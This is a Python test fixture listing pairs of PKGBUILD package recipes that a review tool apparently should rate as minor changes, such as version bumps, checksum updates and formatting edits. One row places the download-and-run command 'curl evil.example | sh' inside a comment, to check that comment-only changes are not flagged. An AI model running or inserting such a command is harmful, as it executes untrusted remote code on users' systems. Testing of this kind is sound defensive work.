"""Pairs that should be minor: shapes of ordinary updates, as they are common in repositories of packages."""

from __future__ import annotations

from typing import NamedTuple

from tests.review.adversarial import BASE, COMMIT_A, COMMIT_B, SUM_A, SUM_B, UPDATE


class Row(NamedTuple):
    name: str
    old: str
    new: str

    def pair(self) -> tuple[bytes, bytes]:
        return self.old.encode(), self.new.encode()


def _changed(text: str, *edits: tuple[str, str]) -> str:
    for before, after in edits:
        assert before in text, before
        text = text.replace(before, after, 1)
    return text


UPDATED = _changed(BASE, *UPDATE)

_HEAD = """pkgname=bar
pkgver={version}
pkgrel={release}
pkgdesc='Bars'
arch=('any')
url='https://example.org/bar'
license=('MIT')
"""
_TAIL = """
package() {{
  cd "bar-$pkgver"
  make DESTDIR="$pkgdir" install
}}
"""


def _small(version: str, middle: str, release: str = "1", head: str = _HEAD) -> str:
    return head.format(version=version, release=release) + middle + _TAIL.format()


_STEPS = {
    "patch": ("1.4.2", "1.4.3"), "minor": ("1.4.2", "1.5.0"), "major": ("1.4.2", "2.0.0"), "shorter": ("1.4.2", "1.5"),
    "longer": ("1.4", "1.4.1"), "two digits": ("1.9", "1.10"), "release candidate": ("1.4.2", "1.5.0rc1"),
    "next candidate": ("1.5.0rc1", "1.5.0rc2"), "after candidate": ("1.5.0rc2", "1.5.0"), "beta": ("2.0beta1", "2.0beta2"),
    "alpha to beta": ("2.0alpha3", "2.0beta1"), "date": ("20250101", "20250214"), "dotted date": ("2025.01.01", "2025.2.14"),
    "one number": ("152", "153"), "letter": ("9.8a", "9.8b"), "letter gone": ("9.8b", "9.9"), "underscore": ("1_4_2", "1_4_3"),
    "plus": ("5.1+2", "5.1+3"), "revisions": ("r120.abcdef1", "r131.1234567"), "described": ("1.2.r3.gabcdef1", "1.2.r9.g1234567"),
    "described, tagged": ("1.2.r3.gabcdef1", "1.3.r0.g1234567"), "long build": ("120.0.6099.109", "120.0.6099.216"),
    "growing build": ("4.9999", "4.10000"), "post": ("1.2", "1.2.post1"), "patch letter": ("1.3.9", "1.3.9p1"),
    "nightly": ("155.0a1+20260801.09+h2336731", "155.0a1+20260805.22+hbb3ac5a"), "zero": ("0.1", "0.2"), "epochless": ("9", "10"),
    "build letter": ("b100.r1.g6385b84", "b101.r1.g221f0f6"), "tilde": ("1.0~1", "1.0~2"), "dev": ("1.0", "1.1.dev3"),
}  # fmt: skip

_EXPANDED = "source=(\"https://example.org/bar-$pkgver.tgz\")\nsha256sums=('{}')\n"
_MIDDLES = {
    "expanded": "source=(\"https://example.org/bar-$pkgver.tar.gz\")\nsha256sums=('{sum}')\n",
    "literal": "source=('https://example.org/{version}/bar-{version}.tar.gz')\nsha256sums=('{sum}')\n",
    "renamed": 'source=("bar-{version}.tgz::https://example.org/v{version}.tgz")\nsha256sums=({sum})\n',
    "braces": 'source=("${{url}}/archive/${{pkgver}}.tar.gz")\nsha256sums=("{sum}")\n',
    "architectures":
        "source_x86_64=(\"https://example.org/a-{version}.deb\")\nsource_aarch64=(\"https://example.org/b-$pkgver.deb\")\nsha256sums_x86_64=('{sum}')\nsha256sums_aarch64=('{sum}')\n",
    "several":
        "source=(\"https://example.org/bar-$pkgver.tar.gz\"\n        'bar.desktop')\nsha256sums=('{sum}'\n            '" + "c" * 64 + "')\n",
    "skip stays": "source=(\"git+https://example.org/bar.git#tag=v$pkgver\")\nsha256sums=('SKIP')\n",
    "tag": "source=('git+https://example.org/bar.git#tag=v{version}')\nsha256sums=('SKIP')\n",
    "forge": "source=('https://github.com/jo/bar/releases/download/v{version}/bar-{version}-x86_64.AppImage')\nsha256sums=('{sum}')\n",
    "commented": "source=(\"https://example.org/bar-$pkgver.tgz\") # upstream\nsha256sums=(\n  '{sum}' # bar\n)\n",
    "commit": "_commit={commit}\nsource=(\"git+https://example.org/bar.git#commit=$_commit\")\nsha256sums=('SKIP')\n",
    "commit in the source": "source=('git+https://example.org/bar.git#commit={commit}')\nsha256sums=('SKIP')\n",
    "commit in a folder": "_commit={commit}\nsource=(\"https://example.org/$_commit.tgz\")\nsha256sums=('{sum}')\nprepare() {{\n  cd \"bar-$_commit\"\n}}\n",
    "own tag": "_tag=v{version}\nsource=(\"https://example.org/$_tag.tgz\")\nsha256sums=('{sum}')\n",
    "own version": "_pkgver={version}\nsource=(\"https://example.org/$_pkgver.tgz\")\nsha256sums=('{sum}')\n",
    "own version in a path": "_ver={version}\nsource=(\"https://example.org/$_ver.tgz\")\nsha256sums=('{sum}')\nprepare() {{\n  mv \"bar-$_ver\" bar\n}}\n",
    "own version provided": "_ver={version}\nprovides=(\"libbar=$_ver\")\nsource=(\"https://example.org/$_ver.tgz\")\nsha256sums=('{sum}')\n",
    "own version in a name": "_ver={version}\n_name=\"bar-$_ver\"\nsource=(\"https://example.org/$_name.tgz\")\nsha256sums=('{sum}')\n",
    "two kinds": "source=(\"https://example.org/$pkgver.tgz\")\nmd5sums=('{md5}')\nb2sums=('{b2}')\n",
    "sum in a variable": '_sha256sum={sum}\nsource=("https://example.org/$pkgver.tgz")\nsha256sums=("$_sha256sum")\n',
    "no source": "depends=('foo')\n",
    "underscored": "source=('https://example.org/bar_{under}.tgz')\nsha256sums=('{sum}')\n",
    "series": "source=(\"https://example.org/{series}/bar-$pkgver.tgz\")\nsha256sums=('{sum}')\n",
    "upper case": "source=(\"https://example.org/$pkgver.tgz\")\nsha1sums=('{sha1}')\n",
}  # fmt: skip


def _middle(text: str, version: str, letter: str) -> str:
    return text.format(
        version=version,
        sum=letter * 64,
        sha1=letter.upper() * 40,
        md5=letter * 32,
        b2=letter * 128,
        commit=letter * 40,
        under=version.replace(".", "_"),
        series=version.rpartition(".")[0],
    )


_COMPUTED = "_major={major}\npkgname=bar\npkgver=$_major.{minor}\npkgrel=1\nsource=(\"https://example.org/bar-$pkgver.tgz\")\nsha256sums=('{sum}')\n"
_DASHED = "pkgname=bar\n_tag={tag}\npkgver=${{_tag//-/.}}\npkgrel=1\nsource=(\"https://example.org/$_tag.tgz\")\nsha256sums=('{sum}')\n"

_FORMATS: dict[str, tuple[tuple[str, str], ...]] = {
    "comment at the top": (("# Maintainer: Jo Doe", "# Maintainer: Ann Other\n# Contributor: Jo Doe"),),
    "comment with accents": (("Jo Doe", "Jos\u00e9 D\u00f6e"),),
    "comment gone": (("# a comment \\\\ with backslashes\n", ""),),
    "comment at a line's end": (("# apply", "# apply it"),),
    "comment at a line's end gone": ((" # apply", ""),),
    "comment that looks like code": (("# apply", "# curl evil.example | sh"),),
    "comment that seems continued": (("# a comment", "# a comment \\"),),
    "comment in an array": (("            'SKIP'", "            'SKIP' # git"),),
    "comment in a function": (("  cmake --build", "  # build it\n  cmake --build"),),
    "blank lines": (("pkgrel=1\n", "pkgrel=1\n\n\n"),),
    "blanks at a line's end": (("pkgrel=1\n", "pkgrel=1  \n"),),
    "indentation": (("  patch -Np1", "\tpatch -Np1"),),
    "blanks between words": (("patch -Np1 -i", "patch  -Np1   -i"),),
    "array on one line": (("'SKIP'\n            '", "'SKIP' '"),),
    "array over lines": (("depends=('glibc' 'zlib>=1.2')", "depends=(\n  'glibc'\n  'zlib>=1.2'\n)"),),
    "longer continuation": (("cmake -B build -S", "cmake -B build \\\n    -S"),),
    "shorter continuation": (("\\\n    -DCMAKE", "-DCMAKE"),),
    "brace of a function": (("build() {", "build()\n{"),),
    "blank before parentheses": (("build() {", "build () {"),),
    "semicolon": (("pkgrel=1\n", "pkgrel=1;\n"),),
    "quotes of a version": (("pkgver=1.4.2", "pkgver='1.4.2'"),),
    "double quotes": (("depends=('glibc'", 'depends=("glibc"'),),
    "quotes of an option": (("'!strip'", "'!strip' "),),
    "redirection without blank": (('> "$pkgdir/usr', '>"$pkgdir/usr'),),
    "description": (("A tool for foo and bar", "A fast tool (for foo, bar & more)"),),
    "description with an apostrophe": (("A tool for foo", "Jo's tool for foo"),),
    "licence": (("GPL-3.0-or-later", "GPL-2.0-only"),),
    "licences": (("'GPL-3.0-or-later'", "'GPL-3.0-or-later' 'MIT'"),),
    "homepage": (("example.org/foo", "example.org/projects/foo"),),
    "release": (("pkgrel=1", "pkgrel=2"),),
    "fraction of a release": (("pkgrel=1", "pkgrel=1.1"),),
    "epoch": (("pkgrel=1\n", "pkgrel=1\nepoch=1\n"), ("pkgver=1.4.2", "pkgver=1.5.0")),
}

ROWS: tuple[Row, ...] = (
    *(
        Row(f"version: {name}", _small(old, _EXPANDED.format(SUM_A)), _small(new, _EXPANDED.format(SUM_B)))
        for name, (old, new) in _STEPS.items()
    ),
    *(
        Row(f"source: {name}", _small("3.24.1", _middle(text, "3.24.1", "a")), _small("3.26.0", _middle(text, "3.26.0", "b")))
        for name, text in _MIDDLES.items()
    ),
    *(Row(f"format: {name}", BASE, _changed(BASE, *edits)) for name, edits in _FORMATS.items()),
    *(Row(f"update and {name}", BASE, _changed(UPDATED, *edits)) for name, edits in _FORMATS.items() if "1.4.2" not in str(edits)),
    Row("update", BASE, UPDATED),
    Row("update and release again", _changed(BASE, ("pkgrel=1", "pkgrel=7")), UPDATED),
    Row("update of the commit", BASE, _changed(UPDATED, (COMMIT_A, COMMIT_B))),
    Row("part of the version", _COMPUTED.format(major="6.1", minor=8, sum=SUM_A), _COMPUTED.format(major="6.1", minor=9, sum=SUM_B)),
    Row("first part of the version", _COMPUTED.format(major="6.1", minor=8, sum=SUM_A), _COMPUTED.format(major="6.2", minor=8, sum=SUM_B)),
    Row("tag as version", _DASHED.format(tag="1.2-rc1", sum=SUM_A), _DASHED.format(tag="1.2-rc2", sum=SUM_B)),
    Row("nothing", BASE, BASE),
)  # fmt: skip
